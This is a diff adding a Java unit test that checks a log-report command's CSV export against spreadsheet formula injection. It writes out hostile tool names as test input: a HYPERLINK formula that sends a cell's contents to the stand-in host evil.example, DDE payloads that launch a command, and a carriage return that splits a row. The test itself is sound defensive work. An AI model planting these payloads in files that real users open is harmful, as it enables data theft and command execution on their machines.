@@ -135,6 +135,28 @@ class ReportCommandTest {
     assertTrue(!until.out().contains("0.5"), until.out());
   }
 
+  /**
+   * A tool name is the first cell of a CSV row an operator opens in a spreadsheet: a formula there would run (a
+   * HYPERLINK that sends the sheet's cells away, a DDE command), and a carriage return would start a row of its own.
+   */
+  @Test
+  void csvCellsAreNeverFormulasNorSplitIntoRows() {
+    String log = tool("2026-12-04T10:31:00Z", "=HYPERLINK(\\\"http://evil.example/?\\\"&A3,\\\"open\\\")", false, "x")
+        + tool("2026-12-04T10:32:00Z", "+cmd|' /C calc'!A0", false, "x")
+        + tool("2026-12-04T10:33:00Z", "@SUM(1+1)*cmd|' /C calc'!A0", false, "x")
+        + tool("2026-12-04T10:34:00Z", "-2+3+cmd|' /C calc'!A0", false, "x")
+        + tool("2026-12-04T10:35:00Z", "lookup\\r=1+1", false, "x");
+    Out r = report(log, "--log", "-", "--format", "csv", "--by", "tool");
+    assertEquals(0, r.status(), r.err());
+    String[] rows = r.out().split("(?:\r\n|\r|\n)(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)"); // outside quotes
+    assertEquals(6, rows.length, "a header and five rows, no more\n" + r.out());
+    for (String row : rows) {
+      String cell = row.startsWith("\"") ? row.substring(1) : row;
+      assertTrue("=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a cell a spreadsheet reads as a formula: " + row);
+    }
+    assertTrue(r.out().contains("'=HYPERLINK("), "the name is kept, as text\n" + r.out());
+  }
+
   @Test
   void globsGzipRotatedFilesAndStandardInput() throws IOException {
     String[] lines = LOG.split("\n", -1);
